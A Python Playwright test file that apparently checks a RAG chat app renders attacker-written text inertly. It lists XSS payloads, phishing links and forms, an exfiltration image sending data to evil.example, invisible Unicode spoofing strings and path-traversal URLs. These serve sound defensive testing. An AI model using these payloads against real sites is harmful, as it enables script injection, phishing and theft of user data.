"""Texts of an attacker on the page.

The attacker writes whatever reaches an answer, its evidence, a question, a title, and an approval's arguments. Nothing
of it may run, load, lead away or hide; it stays readable.
"""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect
from running_web import RunningWeb
from visitor import Visit

from sentinel_rag.surfaces.users import Role

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "</p></article></main><h1>Approved by the owner</h1>",
    "![pixel](https://evil.example/p.png?d=secret)",
    "[Sign in again](https://evil.example/login)",
    "[x](javascript:alert(1))",
    "<https://evil.example/auto>",
    "[ref]: https://evil.example/ref",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "**bold <b onmouseover=alert(1)>x</b>**",
    "`code <img src=x onerror=alert(1)>`",
    "# heading <img src=x onerror=alert(1)>",
    "- item <img src=x onerror=alert(1)>",
    "> quote <img src=x onerror=alert(1)>",
]
INVISIBLE = {
    "user\u202egpj.exe": r"user\u202egpj.exe",
    "pay\u200bpal": r"pay\u200bpal",
    "\u2066isolated\u2069": r"\u2066isolated\u2069",
    "bell\x07 and \x1b[31mred": r"bell\x07 and \x1b[31mred",
    "tag\U000e0041ged": r"tag\U000e0041ged",
    "\ufeffmark": r"\ufeffmark",
    "next\u0085line": r"next\x85line",
    "soft\u00adhyphen": r"soft\xadhyphen",
}


@pytest.mark.requirement("SURF-5")
def test_nothing_in_an_answer_runs_loads_leads_away_or_hides(visit: Visit) -> None:
    dana = visit("dana-hostile")
    page = dana.page
    texts = [*MARKUP, *INVISIBLE]
    # Each is a fact of its own, so it is shown as text and as evidence, and all of them in the question.
    dana.ask("say " + "\n\n".join(f"{text} n={number}" for number, text in enumerate(texts)))
    answer = page.locator("article.answered")
    expect(answer).to_have_count(1)
    dana.open_provenance()
    page.get_by_role("button", name="Show all").click()
    for place in (answer.locator("h2"), answer.locator(".markdown"), answer.get_by_role("region", name="Evidence")):
        told = place.inner_text()
        for escaped in INVISIBLE.values():
            assert escaped in told
        for text in MARKUP:
            # What Markdown draws loses its marks and nothing else.
            assert text.strip("*`#->! ").partition("`")[0].strip() in told.replace("\u00a0", " ")
    made = "img, svg:not(.i), iframe, form, a, link, style, meta, base, script, math, [onerror], [onload]"
    assert answer.locator(made).count() == 0
    answer.get_by_role("region", name="Evidence").get_by_role("button").first.click()
    expect(page.get_by_role("region", name="Behind the answer")).to_contain_text(MARKUP[0])
    page.keyboard.press("Escape")
    expect(page.get_by_role("navigation", name="Conversations").get_by_role("link")).to_have_count(2)
    page.reload()
    expect(page.locator("article.answered")).to_have_count(1)
    assert page.evaluate("[...document.scripts].map(script => script.getAttribute('src'))") == ["/page/page.js"]


@pytest.mark.requirement("SURF-5")
def test_an_approval_shows_hostile_arguments_as_what_they_are(web: RunningWeb, visit: Visit) -> None:
    host = "<img src=x onerror=alert(1)>\u202eexe.\nApproved by the owner"
    web.person("dana-argument").ask(f"call isolate {json.dumps({'host': host})}")
    finn = visit("finn-argument", Role.APPROVER)
    finn.page.get_by_role("region", name="Waiting").get_by_role("link").click()
    shown = finn.page.locator("article.approval .after").first
    expect(shown).to_have_text("<img src=x onerror=alert(1)>\\u202eexe.\nApproved by the owner")
    assert finn.page.locator("article.approval img").count() == 0


@pytest.mark.requirement("SURF-5")
def test_an_address_that_an_attacker_wrote_leads_nowhere_else(web: RunningWeb, visit: Visit) -> None:
    for address in ("/#/chat/..%2F..%2Fsession", "/#/nowhere/%E0%A4%A", "/#/chat/<img src=x onerror=alert(1)>"):
        name = f"dana-address-{len(web.accounts)}"
        dana = visit(name, at=address)
        box = dana.page.get_by_role("textbox", name="Question")
        expect(box.or_(dana.page.get_by_role("heading", name="No such conversation"))).to_be_visible()
        assert dana.page.locator("img").count() == 0
